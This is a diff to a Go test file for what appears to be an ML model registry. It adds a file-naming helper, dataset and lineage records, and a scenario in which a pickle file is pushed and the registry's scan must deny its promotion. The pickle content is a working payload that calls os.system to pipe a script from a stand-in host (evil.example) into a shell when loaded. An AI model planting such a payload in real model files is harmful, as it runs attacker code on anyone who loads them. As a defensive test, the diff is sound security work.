@@ -97,10 +97,16 @@ func (ts *testServer) client(t *testing.T, who string) *client.Client {
 // push registers a one-file version and runs the server's analysis of it.
 func (ts *testServer) push(t *testing.T, c *client.Client, model, content string) registry.Version {
 	t.Helper()
+	return ts.pushFile(t, c, model, "model.dat", content)
+}
+
+// pushFile is push with the file's name.
+func (ts *testServer) pushFile(t *testing.T, c *client.Client, model, path, content string) registry.Version {
+	t.Helper()
 	ctx := t.Context()
 	sum := sha256.Sum256([]byte(content))
 	sha := hex.EncodeToString(sum[:])
-	v, _, err := c.CreateVersion(ctx, model, registry.NewVersion{Artifacts: []registry.Artifact{{Path: "model.dat", Size: int64(len(content)), SHA256: sha}}})
+	v, _, err := c.CreateVersion(ctx, model, registry.NewVersion{Artifacts: []registry.Artifact{{Path: path, Size: int64(len(content)), SHA256: sha}}})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -205,4 +211,33 @@ func scenario(t *testing.T, ts *testServer, check func(step string)) {
 	must(bob.Vote(ctx, d2.ID, true, ""))(t)
 	must(carol.Rollback(ctx, "credit-risk", 1, "Version 2 drifted on live traffic."))(t)
 	check("rolled back")
+
+	// Lineage: v1 trained on a registered dataset by a run; v2 fine-tuned
+	// from v1 on a dataset that is not registered.
+	loans := must(alice.CreateDataset(ctx, registry.NewDataset{Name: "loans-2025", Digest: hexSum("loans 2025 rows"), Team: "lending"}))(t)
+	for _, e := range []struct {
+		n int
+		l client.NewLineage
+	}{
+		{1, client.NewLineage{Kind: registry.TrainedOn, Target: loans.Digest, Commit: "9f1c2e7", Note: "applications 2021-2025"}},
+		{1, client.NewLineage{Kind: registry.ProducedBy, Target: "https://ci.example/runs/4711"}},
+		{2, client.NewLineage{Kind: registry.TrainedOn, Target: hexSum("loans 2026 rows")}},
+		{2, client.NewLineage{Kind: registry.DerivedFrom, Target: v1.Digest, Note: "fine-tuned on 2026 data"}},
+	} {
+		must(alice.AddLineage(ctx, "credit-risk", e.n, e.l))(t)
+	}
+	// v3 is a pickle that would run a command when loaded: the server's
+	// scan finds it and the policy denies its promotion.
+	v3 := ts.pushFile(t, alice, "credit-risk", "model.pkl", "cos\nsystem\n(S'curl evil.example | sh'\ntR.")
+	addEvidence(t, alice, v3, goodEvidence(v3))
+	d3 := must(alice.RequestDecision(ctx, "credit-risk", 3, registry.NewRequest{Action: registry.ActionPromote, Stage: registry.StageStaging, Rationale: "Try the new export."}))(t)
+	if d3.Status != registry.RequestDenied {
+		t.Fatalf("request 3 was not denied: %+v", d3)
+	}
+	check("denied")
+}
+
+func hexSum(s string) string {
+	sum := sha256.Sum256([]byte(s))
+	return hex.EncodeToString(sum[:])
 }
